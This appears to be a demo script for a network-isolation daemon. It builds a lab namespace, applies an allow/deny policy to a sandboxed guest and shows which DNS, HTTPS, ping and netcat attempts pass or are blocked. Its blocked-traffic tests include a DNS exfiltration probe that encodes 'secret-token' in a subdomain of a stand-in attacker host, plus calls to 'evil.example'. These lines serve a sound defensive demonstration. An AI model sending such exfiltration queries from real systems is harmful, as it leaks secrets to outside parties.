#!/usr/bin/env bash
# The demo: installs dependencies, builds, brings up the lab, starts zerod in
# the lab's host namespace, creates session user-1 with the example policy of
# DESIGN.md and shows from inside the guest what it can and cannot reach —
# then the audit trail. Cleans up after itself. Run as root: scripts/demo.sh
set -euo pipefail
cd "$(dirname "$0")/.."

if [ "$(id -u)" -ne 0 ]; then
  echo "scripts/demo.sh: run as root (it creates namespaces, TAPs and loads BPF)" >&2
  exit 1
fi

BUILD_DIR=${BUILD_DIR:-build}
scripts/install-deps.sh
cmake -S . -B "$BUILD_DIR" -DCMAKE_BUILD_TYPE=RelWithDebInfo > /dev/null
cmake --build "$BUILD_DIR" -j"$(nproc)" --target zn-lab zerod znctl > /dev/null
trap 'echo "demo failed; see above" >&2' ERR

PREFIX=zndemo
WORK=$(mktemp -d /tmp/zeroness-demo.XXXXXX)
LAB="$BUILD_DIR/tools/zn-lab/zn-lab --prefix $PREFIX"
ZNCTL="$BUILD_DIR/tools/znctl/znctl --socket $WORK/zerod.sock --state-dir $WORK/state --pin-root /sys/fs/bpf/zeroness-$PREFIX"
ZEROD_PID=""
UPSTREAM_PID=""
cleanup() {
  [ -n "$ZEROD_PID" ] && kill "$ZEROD_PID" 2> /dev/null && wait "$ZEROD_PID" 2> /dev/null || true
  [ -n "$UPSTREAM_PID" ] && kill "$UPSTREAM_PID" 2> /dev/null || true
  $LAB down > /dev/null 2>&1 || true
  rm -rf "$WORK"
}
trap cleanup EXIT

say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
in_guest() {
  printf '$ %s\n' "$*"
  $LAB exec g0 -- sh -c "$*" 2>&1 | sed 's/^/  /' || true
}

say "The lab: a stand-in internet (198.18.0.0/16), a host namespace, one guest behind TAP zn-tap0"
$LAB up --guests 1 --ungoverned

say "A real HTTPS upstream for registry.npmjs.org in the stand-in internet (certificate from a lab CA)"
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout "$WORK/labca.key" \
  -out "$WORK/labca.pem" -days 1 -subj "/CN=lab upstream CA" 2> /dev/null
openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout "$WORK/npm.key" -out "$WORK/npm.csr" \
  -subj "/CN=registry.npmjs.org" 2> /dev/null
echo "subjectAltName=DNS:registry.npmjs.org" > "$WORK/npm.ext"
openssl x509 -req -in "$WORK/npm.csr" -CA "$WORK/labca.pem" -CAkey "$WORK/labca.key" -CAcreateserial \
  -out "$WORK/npm.pem" -days 1 -extfile "$WORK/npm.ext" 2> /dev/null
ip netns exec "$PREFIX-inet" openssl s_server -accept 198.18.0.12:443 -cert "$WORK/npm.pem" \
  -key "$WORK/npm.key" -www -quiet > /dev/null 2>&1 &
UPSTREAM_PID=$!

say "zerod starts in the host namespace (the lab's names resolve to the stand-in internet)"
cat > "$WORK/zerod.json" << JSON
{ "netns": "$PREFIX-host", "pin_root": "/sys/fs/bpf/zeroness-$PREFIX",
  "state_dir": "$WORK/state", "control_socket": "$WORK/zerod.sock",
  "dns_static": { "api.github.com": ["198.18.0.10"], "api.stripe.com": ["198.18.0.11"],
                  "registry.npmjs.org": ["198.18.0.12"], "db.internal": ["198.18.0.13"],
                  "evil.example": ["198.18.0.66"], "api.openai.com": ["198.18.0.10"] } }
JSON
"$BUILD_DIR/tools/zerod/zerod" --config "$WORK/zerod.json" > "$WORK/zerod.log" 2>&1 &
ZEROD_PID=$!
for _ in $(seq 50); do [ -S "$WORK/zerod.sock" ] && break; sleep 0.1; done

say "Session user-1 with the example policy (examples/policy.json), on the guest's TAP"
cat examples/policy.json | sed 's/^/  /'
$ZNCTL session create user-1 --policy examples/policy.json --device zn-tap0 --slot 0

say "Names the policy allows resolve — whatever resolver the guest names"
in_guest 'dig api.github.com @8.8.8.8 +short'
in_guest 'dig registry.npmjs.org @1.1.1.1 +short'
say "Denied by policy (deny rule) and by default: NXDOMAIN, and the name never leaves the host"
in_guest 'dig evil.example @8.8.8.8 +tries=1 +time=2 | grep -o "status: [A-Z]*"'
in_guest 'dig api.openai.com @8.8.8.8 +tries=1 +time=2 | grep -o "status: [A-Z]*"'
in_guest 'dig c2VjcmV0LXRva2Vu.exfil.attacker.test +tries=1 +time=2 | grep -o "status: [A-Z]*"'

say "HTTPS to an allowed host: steered to zerod's proxy, spliced to the upstream zerod resolved"
in_guest "curl -s -m 5 --cacert $WORK/labca.pem https://registry.npmjs.org/ | head -2; echo '(answered by the upstream itself, with its own certificate)'"
in_guest "curl -s -m 5 --cacert $WORK/labca.pem --resolve registry.npmjs.org:443:198.18.0.13 https://registry.npmjs.org/ | head -1; echo '(guest aimed at 198.18.0.13: zerod still went to the real host)'"
say "HTTPS blocked by policy: the connection is reset"
in_guest "curl -s -m 5 --resolve evil.example:443:198.18.0.13 https://evil.example/ || echo 'evil.example: reset (deny rule)'"
in_guest "curl -s -m 5 -k https://api.stripe.com/ || echo 'api.stripe.com: reset (its rule injects identity: needs TLS interception, not built yet)'"

say "Everything else is dropped at the TAP"
in_guest 'ping -c 1 -W 1 198.18.0.10 > /dev/null || echo "ping: blocked"'
in_guest 'nc -z -w 2 198.18.0.10 22 || echo "ssh: blocked"'

say "No secrets in the guest"
in_guest 'env | grep -i token || echo "(no token in the environment)"'

sleep 1.2  # drop events reach the audit trail once a second
say "What the datapath did, per reason (znctl stats user-1)"
$ZNCTL stats user-1
say "The audit trail of user-1 (znctl audit query --sid user-1)"
$ZNCTL audit query --sid user-1
$ZNCTL audit verify
say "Done; stopping zerod and tearing the lab down"
